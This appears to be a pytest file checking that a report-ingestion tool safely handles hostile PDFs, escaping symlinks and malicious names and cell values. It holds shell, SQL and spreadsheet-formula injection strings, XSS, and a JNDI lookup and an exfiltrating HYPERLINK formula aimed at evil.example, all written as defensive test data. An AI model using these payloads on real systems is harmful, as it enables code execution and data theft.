"""Reports and folders made to do harm: each ends as read, empty or refused, and nothing else happens."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path

import pytest
from click.testing import Result
from openpyxl import load_workbook

from bulk.reports import find_reports
from pipeline import Settings, run
from store import read_connection
from tests import hostile
from workers import Limits

WriteReports = Callable[[Path, int], list[Path]]
Lakip = Callable[..., Result]
pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="limits and links of Unix")
LIMITS = Limits(seconds=20.0, memory_mb=1536)

FILES = {
    "bomb.pdf": hostile.bomb(200),
    "bomb-in-a-bomb.pdf": hostile.bomb_in_a_bomb(200),
    "bomb-of-text.pdf": hostile.bomb_of_text(3),
    "deep-tree.pdf": hostile.deep_tree(5_000),
    "circle-of-pages.pdf": hostile.circle_of_pages(),
    "lying-count.pdf": hostile.lying_count(2**31 - 1),
    "too-many-pages.pdf": hostile.lying_count(6_000),
    "circle-of-forms.pdf": hostile.circle_of_forms(),
    "forms-in-forms.pdf": hostile.forms_in_forms(6, 8),
    "huge-image.pdf": hostile.huge_image(40_000),
    "huge-page.pdf": hostile.page_of_size(b"[0 0 1e9 1e9]"),
    "no-page-size.pdf": hostile.page_of_size(b"[0 0 0 0]"),
    "odd-page-size.pdf": hostile.page_of_size(b"[100 100 -1e38 nan]"),
    "many-paths.pdf": hostile.many_paths(70_000),
    "broken-page.pdf": hostile.broken_page(),
    "no-numbers.pdf": hostile.no_numbers(),
    "one-line.txt": b"Indikator 1 Target 2024 " * 100_000,
    "one-column.txt": b"Indikator\tTarget\n" + b"\t" * 200_000 + b"\n" * 1000,
    "digits.txt": b"No\tIndikator\tTarget\n1\tx\t" + b"1.1" * 50_000 + b"\n",
    "brackets.txt": b"No\tIndikator\tTarget\n1\t" + b"(((((" * 20_000 + b"\t5\n",
    "words.txt": b"No\tIndikator\tTarget\n1\t" + b"dan atau yang " * 20_000 + b"\t5\n",
}


def test_hostile_files_cost_themselves_alone(tmp_path: Path, database_path: Path, write_reports: WriteReports) -> None:
    write_reports(tmp_path / "in", 3)
    for name, data in FILES.items():
        (tmp_path / "in" / name).write_bytes(data)
    summary = run([tmp_path / "in"], Settings(database_path, 2, ocr="never", limits=LIMITS))
    assert summary.reasons.get("failed") is None
    assert summary.ended.total() == len(FILES) + 3
    with read_connection(database_path) as db:
        rows = {name: told for name, *told in db.execute("SELECT document, status, pages FROM documents")}
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        json_texts = db.execute("SELECT lines FROM page_rows UNION ALL SELECT bbox FROM cell_rows WHERE bbox NOT NULL")
        assert all(json.loads(text, parse_constant=pytest.fail) is not None for (text,) in json_texts)
    assert {name for name in rows if name.startswith("report-")} == {f"report-{n:03d}.txt" for n in range(3)}
    assert all(rows[f"report-{n:03d}.txt"][0] == "read" for n in range(3))
    assert rows["too-many-pages.pdf"][0] == rows["huge-image.pdf"][0] == "refused"
    assert rows["broken-page.pdf"] == ["empty", 2], "one bad page must not cost the document"


def test_broken_page_leaves_the_others(tmp_path: Path, database_path: Path) -> None:
    (tmp_path / "a.pdf").write_bytes(hostile.broken_page())
    summary = run([tmp_path / "a.pdf"], Settings(database_path, 0, ocr="never"))
    assert summary.reasons["empty"] == [("a.pdf", "no indicator table found; 1 of 2 pages are images without text")]
    with read_connection(database_path) as db:
        pages = db.execute("SELECT page, source, json_array_length(lines) FROM page_rows ORDER BY page").fetchall()
    assert pages == [(1, "none", 0), (2, "digital", 20)]


def test_what_a_report_asks_for_is_not_done(
    tmp_path: Path, database_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its metadata, actions, scripts, links and attached files: neither followed nor stored nor written to disk."""

    def connect(*_: object) -> None:
        raise AssertionError("nothing may be fetched")

    monkeypatch.setattr("socket.socket.connect", connect)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "talking.pdf").write_bytes(hostile.talking())
    outside = set(Path(tempfile.gettempdir()).iterdir())
    summary = run([tmp_path / "in"], Settings(database_path, 0, ocr="never"))
    assert summary.ended == {"empty": 1}
    assert summary.pages == 1
    with read_connection(database_path) as db:
        stored = "\n".join(db.iterdump())
        assert db.execute("SELECT json_array_length(lines) FROM page_rows").fetchall() == [(20,)]
    for word in ("pwned", "evil.example", "<script>", "passwd", "JavaScript"):
        assert f"{word}" not in stored.replace(str(tmp_path), ""), word
    files = {path.relative_to(tmp_path) for path in tmp_path.rglob("*") if path.is_file()}
    assert files == {Path("in/talking.pdf"), database_path.relative_to(tmp_path)}
    assert not [one for one in set(Path(tempfile.gettempdir()).iterdir()) - outside if "pwned" in one.name]


@pytest.mark.parametrize(
    ("limit", "value", "name", "reason"),
    [
        pytest.param(
            "extract.pdf.source.LARGEST_FILE", 1000, "bomb-of-text.pdf", "the file is larger than", id="bytes"
        ),
        pytest.param(
            "extract.pdf.source.MOST_PAGES", 0, "broken-page.pdf", "the PDF has 2 pages, more than 0", id="pages"
        ),
    ],
)
def test_limits_of_a_document(
    tmp_path: Path, database_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int, name: str, reason: str
) -> None:
    monkeypatch.setattr(limit, value)
    (tmp_path / name).write_bytes(FILES[name])
    summary = run([tmp_path / name], Settings(database_path, 0, ocr="never"))
    assert summary.reasons["refused"][0][1].startswith(reason)


# -- folders ----------------------------------------------------------------------------------------------------------


def test_links_do_not_lead_out_of_the_folder(tmp_path: Path, write_reports: WriteReports) -> None:
    inside, outside = tmp_path / "in", tmp_path / "private"
    (report,) = write_reports(inside, 1)
    (secret,) = write_reports(outside, 1)
    (inside / "twin.txt").symlink_to(report)
    (inside / "leak.txt").symlink_to(secret)
    (inside / "up.txt").symlink_to(Path("..") / "private" / secret.name)
    (inside / "private").symlink_to(outside, target_is_directory=True)
    (inside / "circle.txt").symlink_to("circle.txt")
    (inside / "folders").symlink_to(".", target_is_directory=True)
    (inside / "gone.txt").symlink_to("nowhere.txt")
    found = find_reports([inside])
    assert sorted(path.name for path, _ in found.reports) == [report.name, "twin.txt"]
    left = {"leak.txt", "up.txt", "private", "circle.txt", "folders", "gone.txt"}
    assert {Path(other).name for other in found.others} == left
    assert [path.name for path, _ in find_reports([inside / "leak.txt"]).reports] == ["leak.txt"], (
        "named: the user's word"
    )


@pytest.fixture
def endless(tmp_path: Path) -> Iterator[Path]:
    """Folders in folders, deeper than Python's stack. Paths so long can only be walked step by step, down and up."""
    depth = 1500
    here = os.open(tmp_path, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=here)
        here = _step("d", here)
    yield tmp_path
    for _ in range(depth):
        here = _step("..", here)
        os.rmdir("d", dir_fd=here)
    os.close(here)


def _step(name: str, here: int) -> int:
    """The folder `name` of an open one, opened, and that one closed."""
    there = os.open(name, os.O_RDONLY, dir_fd=here)
    os.close(here)
    return there


def test_folders_in_folders_without_end(endless: Path) -> None:
    assert find_reports([endless]).reports == ()


ODD_NAMES = [
    "laporan\n2024.txt",
    "\x1b[2J\x1b]0;pwned\x07.txt",
    "'); DROP TABLE document_rows;--.txt",
    "--db=elsewhere.txt",
    "$(touch pwned).txt",
    "=HYPERLINK(1).txt",
    "‮fdp.txt",
    "a" * 251 + ".txt",
]


@pytest.mark.parametrize("name", ODD_NAMES, ids=repr)
def test_odd_names_are_only_names(
    lakip: Lakip, tmp_path: Path, database_path: Path, write_reports: WriteReports, name: str
) -> None:
    (report,) = write_reports(tmp_path / "in", 1)
    report.rename(report.with_name(name))
    (tmp_path / "in" / "empty.txt").write_text("")
    (tmp_path / "in" / f"x{name[-200:]}").write_text("")
    result = lakip("ingest", tmp_path / "in", "--db", database_path, "--jobs", "0")
    assert result.exit_code == 0
    assert all(line.isprintable() for line in result.stderr.splitlines()), result.stderr
    with read_connection(database_path) as db:
        assert db.execute("SELECT document FROM documents WHERE status = 'read'").fetchall() == [(name,)]
    assert not (tmp_path / "pwned").exists()


# -- what stands in cells ---------------------------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Jumlah'); DROP TABLE document_rows;--",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    'Jumlah "kutip", koma; titik',
    "{{ 7*7 }} ${jndi:ldap://evil.example/a} %s %n",
]
FOR_TERMINALS = "Jumlah \x1b[2J\x1b]0;pwned\x07 \x9b31m \u202eterbalik"


@pytest.fixture
def poisoned(lakip: Lakip, tmp_path: Path, database_path: Path) -> Path:
    """A database with a report whose indicators are attacks."""
    rows = "".join(
        f"{n}\tMeningkatnya {text}\t{text}\t%\t80\t7{n}\t90,5\n" for n, text in enumerate((*PAYLOADS, FOR_TERMINALS), 1)
    )
    head = "LAPORAN KINERJA\nDINAS SOSIAL KOTA BATU\nTAHUN 2024\n\nTabel 1 Pengukuran Kinerja Tahun 2024\n"
    table = "No.\tSasaran\tIndikator Kinerja\tSatuan\tTarget\tRealisasi\tCapaian (%)\n"
    path = tmp_path / "report.txt"
    path.write_text(head + table + rows, encoding="utf-8")
    assert lakip("ingest", path, "--db", database_path, "--jobs", "0").exit_code == 0
    return database_path


def test_payloads_change_nothing_in_the_database(poisoned: Path) -> None:
    with closing(sqlite3.connect(poisoned)) as db:
        assert db.execute("SELECT COUNT(*) FROM documents").fetchone() == (1,)
        cells = {text for (text,) in db.execute("SELECT text FROM cell_rows")}
    assert set(PAYLOADS) <= cells


def test_payloads_are_inert_in_tables_for_spreadsheets(lakip: Lakip, poisoned: Path, tmp_path: Path) -> None:
    def is_inert(text: str) -> bool:
        return not text.startswith(("=", "+", "-", "@", "\t", "\r")) or text.lstrip("+-").replace(".", "").isdigit()

    made = lakip("export", "observations", "-o", tmp_path / "o.csv", "--db", poisoned)
    assert made.exit_code == 0, made.stderr
    with (tmp_path / "o.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["indicator"].removeprefix("'") for row in rows} >= {text for text in PAYLOADS if text[0] in "=+@J"}
    assert all(is_inert(value) for row in rows for value in row.values() if value)
    assert lakip("export", "observations", "-o", tmp_path / "o.xlsx", "--db", poisoned).exit_code == 0
    sheet = load_workbook(tmp_path / "o.xlsx").worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert all(is_inert(cell.value) for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str))


def test_payloads_are_verbatim_in_json(lakip: Lakip, poisoned: Path, tmp_path: Path) -> None:
    assert lakip("export", "observations", "-o", tmp_path / "o.json", "--db", poisoned).exit_code == 0
    found = json.loads((tmp_path / "o.json").read_text(encoding="utf-8"))
    assert {row["indicator"] for row in found} >= {PAYLOADS[0], PAYLOADS[4]}


def test_payloads_in_a_comparison(lakip: Lakip, poisoned: Path) -> None:
    made = lakip("compare", "--csv", "--db", poisoned)
    assert made.exit_code == 0
    rows = list(csv.reader(io.StringIO(made.stdout)))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@", "+"))]


@pytest.mark.parametrize("command", ["check", "compare", "compare --weak-targets", "suggest"])
def test_payloads_are_not_obeyed_by_a_terminal(lakip: Lakip, poisoned: Path, command: str) -> None:
    made = lakip(*command.split(), "--db", poisoned)
    assert made.stdout or made.stderr
    assert all(line.isprintable() for line in (made.stdout + made.stderr).splitlines())


def test_payloads_are_inert_in_a_workbook_of_everything(lakip: Lakip, poisoned: Path, tmp_path: Path) -> None:
    made = lakip("export", "all", "-o", tmp_path / "all.xlsx", "--db", poisoned)
    assert made.exit_code == 0, made.stderr
    cells = [cell for sheet in load_workbook(tmp_path / "all.xlsx") for row in sheet.iter_rows() for cell in row]
    assert len(cells) > 1000
    assert not [cell.value for cell in cells if cell.data_type == "f"]


def test_payloads_are_verbatim_in_parquet(lakip: Lakip, poisoned: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="needs the extra lakip[parquet]")
    assert lakip("export", "observations", "-o", tmp_path / "o.parquet", "--db", poisoned).exit_code == 0
    assert set(parquet.read_table(tmp_path / "o.parquet")["indicator"].to_pylist()) >= {PAYLOADS[0], PAYLOADS[4]}
